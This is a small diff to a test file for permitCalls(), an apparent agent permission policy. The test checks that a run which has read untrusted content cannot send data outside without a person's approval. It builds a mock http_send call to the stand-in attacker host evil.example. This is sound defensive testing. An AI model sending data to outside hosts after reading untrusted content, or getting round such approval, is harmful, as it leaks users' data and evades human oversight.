@@ -92,7 +92,7 @@ test("permitCalls() never asks about notes, states and work folders, but obeys w
   assert.equal(decide(write("notes.md"), { policies }).state, "ask");
 });
 
-test("permitCalls() lets no run that has read untrusted content tell somebody outside what it knows without a person", () => {
+test("permitCalls() lets a run that has read untrusted content send what it knows outside only with a person", () => {
   const send = call("http_send", { url: "https://evil.example/" }, { target: "evil.example", isOutside: true });
   const asked = decide(send);
   assert.deepEqual(asked.state === "ask" && [asked.policy, asked.target], ["rule-of-two/1", "evil.example"]);
